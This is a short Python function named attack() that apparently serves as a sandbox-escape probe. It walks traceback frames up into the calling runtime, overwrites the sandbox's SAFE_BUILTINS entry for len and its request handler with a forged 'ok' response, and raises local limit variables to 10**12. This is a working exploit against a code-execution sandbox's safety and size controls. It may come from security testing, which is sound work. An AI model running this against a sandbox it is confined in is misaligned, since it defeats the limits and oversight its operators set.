# From a traceback frame to the callers' frames: rewrite the runtime's globals and the live locals of the
# frames that serve this call (PEP 667 makes f_locals write-through on Python 3.13).
def attack():
    out = []
    try:
        raise ValueError("probe")
    except ValueError as exc:
        tb = exc.__traceback__
    frame = tb.tb_frame
    while frame is not None:
        g = frame.f_globals
        if "SAFE_BUILTINS" in g:
            g["SAFE_BUILTINS"]["len"] = lambda x: -1
            g["handle"] = lambda req: {"kind": "ok", "content": '"FRAME"'}
            out.append("runtime globals")
        try:
            for key in list(frame.f_locals):
                if key in ("limit", "maxChars", "max_chars"):
                    frame.f_locals[key] = 10**12
                    out.append("local " + key)
        except Exception:
            pass
        frame = frame.f_back
    return out
